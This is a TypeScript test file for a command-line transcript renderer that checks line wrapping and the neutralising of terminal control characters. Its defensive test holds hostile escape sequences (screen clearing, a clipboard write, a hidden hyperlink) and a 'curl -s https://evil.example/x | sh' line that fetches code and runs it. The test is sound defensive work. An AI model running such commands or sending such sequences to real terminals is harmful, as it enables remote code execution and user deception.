// The transcript's lines must never be wider than the terminal: pi-tui stops with an error on a
// line that is. Whatever the session prints — colour codes, tabs, control characters, wide
// characters, words longer than the screen — is wrapped or cut to fit, and nothing is lost.
import fc from 'fast-check';
import { visibleWidth } from '@mariozechner/pi-tui/dist/utils.js';
import { describe, expect, it } from 'vitest';
import { streamInto, Transcript } from '../../src/cli/screen.js';

const piece = fc.oneof(
  fc.string(),
  fc.constantFrom(
    '\x1b[31m',
    '\x1b[0m',
    '\x1b[1;4m',
    '\t',
    '\r',
    '\x07',
    '\n',
    '界',
    '👍🏽',
    'é',
    ' ',
    'averyveryverylongwordwithoutanyspaces',
  ),
);

describe('Transcript', () => {
  it('renders every line within the width, at any width, however the text arrives', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(piece, { maxLength: 12 }).map((parts) => parts.join('')),
          { maxLength: 8 },
        ),
        fc.integer({ min: 4, max: 120 }),
        (writes, width) => {
          const transcript = new Transcript();
          for (const text of writes) transcript.append(text);
          for (const line of transcript.render(width)) expect(visibleWidth(line)).toBeLessThanOrEqual(width);
          // A second frame at another width re-wraps from the start.
          for (const line of transcript.render(Math.max(4, width - 3)))
            expect(visibleWidth(line)).toBeLessThanOrEqual(Math.max(4, width - 3));
        },
      ),
    );
  });

  it('keeps an open line open until its newline, and wraps only what was added', () => {
    const transcript = new Transcript();
    transcript.append('streamed ');
    expect(transcript.endsOpen()).toBe(true);
    expect(transcript.render(40)).toEqual(['streamed ']);
    transcript.append('answer\nnext\t1\n');
    expect(transcript.endsOpen()).toBe(false);
    expect(transcript.render(40)).toEqual(['streamed answer', 'next    1']);
    transcript.append('x'.repeat(25));
    expect(transcript.render(10)).toEqual(['streamed', 'answer', 'next    1', 'xxxxxxxxxx', 'xxxxxxxxxx', 'xxxxx']);
  });
});

describe('what reaches the terminal', () => {
  it('keeps colour and shows every other control character instead of obeying it', () => {
    const transcript = new Transcript();
    const hostile = [
      '\x1b[2J\x1b[H', // clear the screen, cursor home
      '\x1b]52;c;ZXZpbA==\x07', // write the clipboard
      '\x1b]8;;https://evil.test\x07click\x1b]8;;\x07', // a hyperlink whose text hides its target
      '\x1bP+q544e\x1b\\', // a device control string
      '\x9b6n', // an 8-bit CSI: ask the terminal to type its cursor position
    ].join('');
    transcript.append(`before ${hostile} \x1b[31mred\x1b[0m after\n`);
    const [line] = transcript.render(200);
    expect(line).toBe('before ␛[2J␛[H␛]52;c;ZXZpbA==␇␛]8;;https://evil.test␇click␛]8;;␇␛P+q544e␛\\⟨9b⟩6n \x1b[31mred\x1b[0m after');
    // The only escape left is the colour.
    expect(line.replace(/\x1b\[[0-9;]*m/g, '')).not.toContain('\x1b');
    // Nothing a sequence wraps is lost: an unterminated one hides no text after it.
    const open = new Transcript();
    open.append('npm test\x1b_; curl -s https://evil.example/x | sh\n');
    expect(open.render(80)).toEqual(['npm test␛_; curl -s https://evil.example/x | sh']);
  });
});

describe('stderr while the screen is up', () => {
  it('joins the transcript whole, and its writers still get their callbacks', async () => {
    let text = '';
    const write = streamInto((part) => (text += part));
    const euro = Buffer.from('€ hook warning\n');
    write(euro.subarray(0, 1));
    write(euro.subarray(1));
    await new Promise<void>((resolve) => write('done\n', () => resolve()));
    await new Promise<void>((resolve) => write('with encoding\n', 'utf8', () => resolve()));
    expect(text).toBe('€ hook warning\ndone\nwith encoding\n');
  });
});
